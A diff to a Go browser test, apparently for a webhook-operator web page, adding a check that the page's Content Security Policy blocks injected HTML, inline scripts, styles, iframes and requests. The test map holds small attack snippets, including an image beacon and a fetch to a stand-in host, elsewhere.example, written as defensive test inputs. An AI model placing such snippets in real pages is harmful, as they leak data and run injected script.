@@ -5,6 +5,8 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/chromedp/chromedp"
+
 	"github.com/maestra-io/webhook-operator/dispatcher/plan"
 	"github.com/maestra-io/webhook-operator/test/receiver"
 )
@@ -54,5 +56,32 @@ func TestPrivateValuesAreMasked(t *testing.T) {
 	}
 	if evaluate[bool](p, `document.documentElement.outerHTML.includes("hunter2")`) {
 		t.Error("the document has the private value")
+	}
+}
+
+// TestThePolicyIsInForce: whatever a mistake in the page let through, the browser makes no
+// HTML of text, runs no script but the page's, and connects to nobody else, and these
+// tests would notice.
+func TestThePolicyIsInForce(t *testing.T) {
+	w := newWorld(t, nil)
+	p := newPage(t, w)
+	p.provoked = true
+	p.open("")
+	p.see("How to get a token")
+	for directive, attack := range map[string]string{
+		"require-trusted-types-for trusted-types-sink Element":           `try { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); } catch {}`,
+		"require-trusted-types-for trusted-types-sink HTMLScriptElement": `const s = document.createElement("script"); s.append("window.attacked = true"); document.body.append(s);`,
+		"img-src":        `new Image().src = "https://elsewhere.example/?data";`,
+		"connect-src":    `fetch("https://elsewhere.example/").catch(() => {});`,
+		"style-src-attr": `document.body.setAttribute("style", "color: red");`,
+		"frame-src":      `const f = document.createElement("iframe"); f.src = "https://elsewhere.example/"; document.body.append(f);`,
+	} {
+		if _, err := chromedp.Run(p.ctx, chromedp.Evaluate[bool]("(() => { "+attack+" return true; })()")); err != nil {
+			t.Fatal(err)
+		}
+		p.until("the browser to stop "+directive, `lookout.violations.some((v) => v.startsWith(%s))`, directive)
+	}
+	if evaluate[bool](p, "window.attacked === true") {
+		t.Error("an inline script has run")
 	}
 }
